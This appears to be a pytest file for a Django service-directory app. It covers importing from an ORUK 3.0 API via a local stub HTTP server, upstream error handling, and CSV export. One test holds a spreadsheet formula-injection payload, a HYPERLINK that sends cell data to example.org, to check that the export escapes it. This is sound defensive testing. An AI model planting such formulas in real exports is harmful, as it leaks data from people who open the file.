"""Harvesting an ORUK 3.0 API over real HTTP, and the CSV export."""

from __future__ import annotations

import csv
import json
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import parse_qs, urlsplit

import pytest
from django.core.management.base import CommandError

from commonweal.directory.importers.oruk_api import OrukClient, UpstreamAPIError
from commonweal.directory.models import Location, Organization, Service
from commonweal.directory.oruk.serializers import page_dict
from commonweal.directory.tests.factories import full_service
from commonweal.directory.tests.importers.conftest import export_json, run
from commonweal.geo.constants import AreaKind
from commonweal.geo.models import Area, Postcode

pytestmark = pytest.mark.django_db

LIST_KEYS = {"id", "name", "organization_id", "organization", "status", "description"}


class _Feed:
    """Serves ``services`` as an ORUK API: list pages of two (not full), and each full record."""

    def __init__(self, services: list[dict]) -> None:
        self.services = services
        self.requests: list[str] = []

    def answer(self, path: str, query: dict[str, list[str]]) -> tuple[int, bytes]:
        self.requests.append(path)
        if path == "/api/services":
            page, per_page = int(query["page"][0]), 2
            chunk = self.services[(page - 1) * per_page : page * per_page]
            contents = [{k: v for k, v in item.items() if k in LIST_KEYS} for item in chunk]
            body = page_dict(
                contents=contents, total_items=len(self.services), page=page, per_page=per_page
            )
            return 200, json.dumps(body).encode()
        if path.startswith("/api/services/"):
            wanted = path.rsplit("/", 1)[1]
            for item in self.services:
                if item["id"] == wanted:
                    return 200, json.dumps(item).encode()
            return 404, b'{"error": "not found"}'
        if path == "/broken/services":
            return 500, b"oops"
        if path == "/html/services":
            return 200, b"<html>hello</html>"
        return 404, b"{}"


@pytest.fixture
def feed() -> Iterator[tuple[str, _Feed]]:
    state = _Feed([])

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:  # noqa: N802 (the http.server spelling)
            url = urlsplit(self.path)
            status, body = state.answer(url.path, parse_qs(url.query))
            self.send_response(status)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *args: object) -> None:
            return

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_port}", state
    finally:
        server.shutdown()
        server.server_close()


def _wipe() -> None:
    Service.objects.all().delete()
    Location.objects.all().delete()
    Organization.objects.all().delete()


def test_harvesting_an_api_reads_every_page_and_each_full_record(tmp_path: Path, feed):
    base, state = feed
    for name in ("Alpha", "Bravo", "Charlie"):
        full_service(name=name)
    _, records = export_json(tmp_path)
    state.services = records
    _wipe()

    result = run("directory_import", f"{base}/api/")

    assert "created: 3" in result.out
    assert state.requests.count("/api/services") == 2
    assert len([path for path in state.requests if path.startswith("/api/services/")]) == 3
    _, again = export_json(tmp_path, "again.json")
    assert [r["id"] for r in again] == [r["id"] for r in records]
    assert [r["schedules"] for r in again] == [r["schedules"] for r in records]

    second = run("directory_import", f"{base}/api")
    assert "unchanged: 3" in second.out and Service.objects.count() == 3


def test_an_api_error_is_a_readable_command_error(feed):
    base, _ = feed
    with pytest.raises(CommandError, match=r"answered HTTP 500"):
        run("directory_import", f"{base}/broken/")
    with pytest.raises(CommandError, match="did not answer with JSON"):
        run("directory_import", f"{base}/html/")


def test_an_unreachable_api_raises_upstream_error():
    client = OrukClient("http://127.0.0.1:9/", timeout=2)
    with pytest.raises(UpstreamAPIError, match="could not be reached"):
        client.get_json("services")


def test_the_csv_export_has_one_row_per_published_service_with_its_ward(tmp_path: Path):
    Area.objects.create(kind=AreaKind.WARD, code="E05002229", name="Grays Riverside")
    Postcode.objects.create(
        postcode="RM176SL", latitude=51.4765, longitude=0.3239, ward_code="E05002229"
    )
    full_service(name="Alpha")
    full_service(name="Bravo", publication="draft")
    path, records = export_json(tmp_path)
    _wipe()
    Path(path).write_text(json.dumps(records))
    run("directory_import", str(path))
    out = tmp_path / "services.csv"

    run("directory_export", "--format", "csv", "--output", str(out))

    rows = list(csv.DictReader(out.open(newline="")))
    assert [row["name"] for row in rows] == ["Alpha"]
    assert rows[0]["id"] == records[0]["id"]
    assert (rows[0]["postcode"], rows[0]["ward_code"], rows[0]["ward"]) == (
        "RM176SL",
        "E05002229",
        "Grays Riverside",
    )


def test_the_csv_export_does_not_hand_spreadsheets_a_formula(tmp_path: Path):
    formula = '=HYPERLINK("https://example.org/?d="&A1, "Open")'
    full_service(name=formula, description="-1 sign-up fee @ the door")
    out = tmp_path / "services.csv"

    run("directory_export", "--format", "csv", "--output", str(out))

    (row,) = list(csv.DictReader(out.open(newline="")))
    assert row["name"] == "'" + formula
    assert row["description"] == "'-1 sign-up fee @ the door"


def test_exporting_to_a_missing_folder_is_a_command_error(tmp_path: Path):
    with pytest.raises(CommandError, match="does not exist"):
        run("directory_export", "--output", str(tmp_path / "no" / "file.json"))
